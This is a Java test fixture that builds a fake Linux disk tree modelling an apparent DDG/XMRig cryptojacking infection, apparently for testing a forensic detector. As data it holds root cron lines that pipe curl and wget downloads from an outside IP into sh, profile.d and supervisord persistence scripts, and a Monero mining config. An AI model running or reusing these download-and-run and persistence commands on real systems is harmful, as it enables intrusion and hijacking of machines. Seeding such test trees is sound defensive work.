package dev.ferret.it;

import java.nio.file.Path;
import java.util.List;

/**
 * docs/threats.md#case-1 (plus case 5's cron lines) as it lies on disk, in a tree for {@code --root}: one small ELF
 * copied to /usr/lib/mysql/.sh, /bin/shh, /etc/spts, /etc/.sh and to an innocent-looking /usr/sbin/helperd;
 * profile.d scripts that copy-run-delete and start a supervisord from a hidden config dir; root's cron
 * spool with the DDG download lines; an XMRig config in a hidden temp dir.
 */
final class CaseOneTree {
    static final String HOSTNAME = "case1-db01";
    static final List<String> MALWARE_COPIES = List.of("/usr/lib/mysql/.sh", "/bin/shh", "/etc/spts", "/etc/.sh");
    static final String INNOCENT_COPY = "/usr/sbin/helperd";
    static final String CRON_SPOOL = "/var/spool/cron/root";
    static final String MINER_CONFIG = "/tmp/.x/config.json";

    private CaseOneTree() {
    }

    /** Writes the tree; returns the MD5 every malware copy shares. */
    static String write(LinuxTree tree, Path smallElf) {
        tree.identity(HOSTNAME, "CentOS Linux 7 (Core)");
        for (String copy : MALWARE_COPIES) {
            tree.copyOf(smallElf, copy, "rwxr-xr-x");
        }
        tree.copyOf(smallElf, INNOCENT_COPY, "rwxr-xr-x");
        tree.text("/etc/profile.d/php.sh", "#!/bin/sh\n"
                + "cp -f /etc/.sh /tmp/.php >/dev/null 2>&1\n"
                + "/tmp/.php >/dev/null 2>&1 &\n"
                + "rm -f /tmp/.php\n", "rwxr-xr-x");
        tree.text("/etc/profile.d/supervisor.sh", "#!/bin/sh\n"
                + "pgrep -f supervisord >/dev/null || /usr/bin/supervisord -c /etc/.supervisor/supervisord.conf "
                + ">/dev/null 2>&1\n", "rwxr-xr-x");
        tree.text("/etc/.supervisor/supervisord.conf", "[unix_http_server]\n"
                + "file=/tmp/.supervisor.sock\n\n"
                + "[supervisord]\n"
                + "logfile=/tmp/.supervisord.log\n"
                + "nodaemon=false\n\n"
                + "[include]\n"
                + "files = /etc/.supervisor/conf.d/*.conf\n");
        tree.text("/etc/.supervisor/conf.d/123.conf", "[program:123]\n"
                + "command=/etc/spts\n"
                + "autostart=true\n"
                + "autorestart=true\n"
                + "stdout_logfile=/etc/.supervisor/123.log\n");
        tree.text(CRON_SPOOL, "*/5 * * * * curl -fsSL http://218.248.40.228:8443/i.sh | sh\n"
                + "*/5 * * * * wget -q -O- http://218.248.40.228:8443/i.sh | sh\n"
                + "*/10 * * * * cp -f /etc/.sh /tmp/.sh && /tmp/.sh && rm -f /tmp/.sh\n", "rw-------");
        tree.text(MINER_CONFIG, "{\n"
                + "  \"autosave\": true,\n"
                + "  \"donate-level\": 1,\n"
                + "  \"cpu\": {\"enabled\": true, \"huge-pages\": true},\n"
                + "  \"randomx\": {\"1gb-pages\": false},\n"
                + "  \"pools\": [\n"
                + "    {\"coin\": \"monero\", \"url\": \"stratum+tcp://pool.supportxmr.com:3333\",\n"
                + "     \"user\": \"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\",\n"
                + "     \"pass\": \"x\", \"rig-id\": \"db01\", \"nicehash\": false}\n"
                + "  ]\n"
                + "}\n");
        return LinuxTree.md5(smallElf);
    }
}
